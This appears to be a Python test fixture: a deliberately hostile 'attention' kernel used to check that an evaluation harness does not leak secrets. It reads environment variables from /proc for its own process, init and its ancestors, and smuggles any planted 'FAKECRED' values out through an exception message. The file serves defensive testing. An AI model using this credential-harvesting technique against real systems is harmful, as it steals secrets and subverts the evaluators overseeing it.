"""Hostile kernel, attack h (credentials), route: an exception at call time.

Like h_creds_import, but it imports cleanly and raises from attention() (the evaluator quotes the
exception in its message).

Verdict: `incorrect` or `compile_error` (the first call is the compile step); none of the planted
values appears in the result.
"""
import base64
import os

MARKER = "FAKECRED"  # safety rail: only the test's planted values are taken, never real ones


def _ancestors(n=6):
    pid, out = os.getpid(), []
    for _ in range(n):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        out.append(pid)
    return out


def _loot():
    """Credential-looking values from os.environ and the environ of self, init and the ancestors."""
    seen = {}
    for k, v in os.environ.items():
        if MARKER in v:
            seen.setdefault(v, k)
    for pid in ["self", "1", *map(str, _ancestors())]:
        try:
            raw = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
        except OSError:
            continue
        for item in raw.split("\0"):
            k, _, v = item.partition("=")
            if MARKER in v:
                seen.setdefault(v, k)
    return seen


def _dump():
    return "; ".join(f"{k}={v} b64={base64.b64encode(v.encode()).decode()} hex={v.encode().hex()}"
                     for v, k in _loot().items())


def attention(q, k, v, causal=False, softmax_scale=None):
    raise ValueError("exfiltrated: " + _dump())
